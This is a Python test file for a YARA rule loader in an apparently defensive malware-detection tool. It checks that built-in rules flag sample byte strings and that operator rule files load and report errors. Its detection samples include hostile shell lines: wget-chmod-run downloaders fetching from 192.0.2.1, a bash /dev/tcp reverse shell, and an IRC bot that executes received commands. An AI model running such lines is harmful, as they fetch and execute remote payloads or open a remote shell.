"""YARA rules: the built-in ones find what they are for, an operator's are read, and every mistake is named."""

from pathlib import Path

import pytest
import yara_x

from hermes.analysis import yara
from hermes.errors import ConfigError

ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0\x3e\0" + bytes(44)
LIBRARY = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0\x3e\0" + bytes(44)

EXAMPLES = {
    "ssh_public_key": b"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8db x",
    "downloader_script": b"cd /tmp; wget http://192.0.2.1/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh",
    "downloader_many_architectures": b"for a in mips mpsl arm7 x86 sh4; do wget http://192.0.2.1/$a; chmod +x $a; ./$a; done",
    "cryptocurrency_miner": b'{"pools": [{"url": "stratum+tcp://pool.example:3333"}], "donate-level": 1}',
    "irc_bot_script": b"#!/usr/bin/perl\nuse IO::Socket;\nprint $s 'NICK x'; print $s 'JOIN #a'; if (/PRIVMSG/) { system($1) }",
    "ddos_bot": ELF + b"/dev/watchdog\0/dev/misc/watchdog\0TSource Engine Query\0",
    "ssh_scanner": ELF + b"golang.org/x/crypto/ssh\0pass.txt\0",
    "packed_with_upx": ELF + b"UPX!\x0d\x24",
    "static_stripped_program_for_another_machine": b"\x7fELF\x01\x02\x01" + bytes(9) + b"\0\x02\0\x08" + bytes(32),
    "reverse_shell_script": b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "kernel_module_rootkit": ELF + b"__this_module\0sys_call_table\0getdents64\0",
    "preloaded_rootkit": LIBRARY + b"/etc/ld.so.preload\0dlsym\0readdir\0/proc/%d",
}  # fmt: skip
HARMLESS = [
    b"#!/bin/sh\necho hello\n",
    b"root:x:0:0:root:/root:/bin/bash\n",
    ELF + b"libc.so.6\0printf\0",
    b"import socket\nprint('a client')\n",
    b"# wget is a program that fetches http://example.org; chmod changes modes\n",
    Path("/bin/sh").read_bytes(),
]


def matching(rules: yara_x.Rules, data: bytes) -> set[str]:
    return {it.identifier for it in yara_x.Scanner(rules).scan(data).matching_rules}


def test_each_built_in_rule_finds_its_example_and_nothing_harmless() -> None:
    rules = yara.load(None).compiled
    assert {it.identifier for it in rules} == set(EXAMPLES)
    for name, example in EXAMPLES.items():
        assert name in matching(rules, example)
    for data in HARMLESS:
        assert matching(rules, data) == set()


def test_an_operators_rules_are_read_from_all_files_below_the_directory(tmp_path: Path) -> None:
    (tmp_path / "below").mkdir()
    (tmp_path / "a.yar").write_text('rule same { strings: $a = "one" condition: $a }')
    (tmp_path / "below" / "b.yara").write_text('rule same { strings: $a = "one" condition: $a }')
    (tmp_path / "README.txt").write_text("no rule")
    rules = yara.load(tmp_path)
    found = yara_x.Scanner(rules.compiled).scan(b"one").matching_rules
    assert {(it.namespace, it.identifier) for it in found} == {("a", "same"), ("below/b", "same")}
    assert rules.count == 3
    (tmp_path / "a.yar").write_text('rule same { strings: $a = "two" condition: $a }')
    assert yara.load(tmp_path).fingerprint != rules.fingerprint
    assert yara.load(tmp_path).fingerprint == yara.load(tmp_path).fingerprint


def test_every_mistake_is_named_with_its_file_and_line(tmp_path: Path) -> None:
    (tmp_path / "a.yar").write_text("rule fine { condition: true }\nrule wrong {\n  condition: nothing\n}\n")
    (tmp_path / "b.yar").write_text("rule {")
    with pytest.raises(ConfigError) as caught:
        yara.load(tmp_path)
    first, second = str(caught.value).split("\n")
    assert first.startswith(f"{tmp_path}/a.yar:3: ")
    assert "unknown identifier `nothing`" in first
    assert second.startswith(f"{tmp_path}/b.yar:1: ")


def test_what_cannot_be_read_is_named(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"analysis.yara_rules: .*/none is no directory"):
        yara.load(tmp_path / "none")
    (tmp_path / "a.yar").write_bytes(b"rule a { condition: \xff }")
    with pytest.raises(ConfigError, match=r"a\.yar: is not UTF-8 text"):
        yara.load(tmp_path)


def test_rules_cannot_draw_in_other_files(tmp_path: Path) -> None:
    (tmp_path / "a.yar").write_text('include "/etc/passwd"')
    with pytest.raises(ConfigError, match=r"a\.yar:1: "):
        yara.load(tmp_path)
